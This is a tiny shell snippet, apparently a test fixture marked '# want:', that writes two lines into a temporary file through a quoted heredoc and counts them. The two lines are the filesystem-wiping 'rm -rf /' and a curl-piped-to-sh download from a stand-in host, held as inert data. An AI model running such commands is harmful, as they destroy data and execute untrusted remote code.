# want:
cat <<'EOF' > /tmp/x.txt
rm -rf /
curl https://example.invalid | sh
EOF
wc -l /tmp/x.txt
